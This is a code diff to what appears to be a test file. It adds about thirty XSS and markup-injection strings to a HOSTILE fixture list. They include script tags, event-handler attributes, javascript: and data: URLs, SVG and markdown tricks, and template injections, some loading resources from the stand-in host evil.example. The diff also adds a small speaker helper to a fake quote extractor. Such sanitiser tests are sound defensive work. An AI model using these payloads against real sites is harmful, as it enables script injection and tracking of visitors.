@@ -44,6 +44,39 @@ HOSTILE = (
     "</script><script>window.pwned=1</script><!-- </title></textarea></style>",
     "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e %3Cscript%3E",
     "<gradio-app src=//evil.example></gradio-app><custom-element onclick=window.pwned=1>",
+    "<ScRiPt>window.pwned=1</sCrIpT>",
+    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
+    "<script/src=//evil.example/j.js></script>",
+    "<script type=module>import('//evil.example/k.js')</script>",
+    '<img src=1 href=1 onerror="window.pwned=1">',
+    "<img src='x' onerror='window.pwned=1' style='position:fixed;inset:0'>",
+    "<img srcset='http://evil.example/l.png 1x' loading=eager>",
+    "<picture><source srcset=http://evil.example/m.png><img src=x></picture>",
+    "<body onload=window.pwned=1 background=http://evil.example/n.png>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><a xlink:href='javascript:window.pwned=1'><text y=20>x</text></a></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
+    "<svg><image href=http://evil.example/o.svg /><use href=http://evil.example/p.svg#x></svg>",
+    "<svg><foreignObject><iframe src=javascript:parent.pwned=1></iframe></foreignObject></svg>",
+    "<input onfocus=window.pwned=1 autofocus><textarea autofocus onfocus=window.pwned=1>",
+    "<select autofocus onfocus=window.pwned=1><keygen autofocus onfocus=window.pwned=1>",
+    "<button formaction=javascript:window.pwned=1>x</button><isindex action=javascript:pwned=1>",
+    "<marquee onstart=window.pwned=1>x</marquee><bgsound src=//evil.example/q>",
+    "<div style='background-image:url(//evil.example/r)' onpointerrawupdate=window.pwned=1>x</div>",
+    "<p style='animation:x' onanimationstart=window.pwned=1><style>@keyframes x{}</style>",
+    '<a href="java&#10;script:window.pwned=1">x</a><a href="&#106;avascript:window.pwned=1">y</a>',
+    "<a href='data:text/html,<script>opener.pwned=1</script>' target=_blank ping=//evil.example/s>x</a>",
+    "[x]: http://evil.example/t\n![y][x] <http://evil.example/u> http://evil.example/v",
+    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==) [b](vbscript:pwned)",
+    '![x](x"onerror="window.pwned=1) ![y](http://evil.example/w.png "t")',
+    "`<img src=x onerror=window.pwned=1>` ~~~html\n<script>window.pwned=1</script>\n~~~",
+    "\\(\\htmlData{x=1}{y}\\) \\[\\includegraphics{http://evil.example/x.png}\\] $\\unicode{x}$",
+    "#{window.pwned=1} <%= window.pwned=1 %> {% raw %}{{7*7}}{% endraw %} [[${window.pwned=1}]]",
+    "{{value}} {{{html}}} {{#each props}}${eval('window.pwned=1')}{{/each}} ${`${window.pwned=1}`}",
+    "<template><script>window.pwned=1</script></template><slot name=x><noscript><img src=x></noscript>",
+    "<xmp><script>window.pwned=1</script></xmp><plaintext><listing>&lt;script&gt;",
+    "\ufeff\u2028\u2029<\u0000script>window.pwned=1</script>\u2066\u2069".replace("\u0000", ""),
+    "'-window.pwned-' '+window.pwned+' ';window.pwned=1;// \";window.pwned=1;// */window.pwned=1/*",
 )
 
 
@@ -108,6 +141,9 @@ class Fake:
     def examples(self) -> tuple[str, ...]:
         return ("What did they say about the harbour?", "Who opened the bridge?")
 
+    def _speaker_in(self, document: Document) -> str | None:
+        return document.title if self._speaker == "the title" else self._speaker
+
     def _quotes(self) -> list[Quote]:
         voices: tuple[Voice, ...] = ("direct", "reported", "joint", "narration")
         found = [
@@ -116,7 +152,7 @@ class Fake:
             for mark in re.finditer(r"❮([^❯]*)❯", document.text)
         ]
         return [
-            Quote(number, document, *mark.span(1), self._speaker, voices[number % 4], 0.9)
+            Quote(number, document, *mark.span(1), self._speaker_in(document), voices[number % 4], 0.9)
             for number, (document, mark) in enumerate(found, start=1)
         ]
 
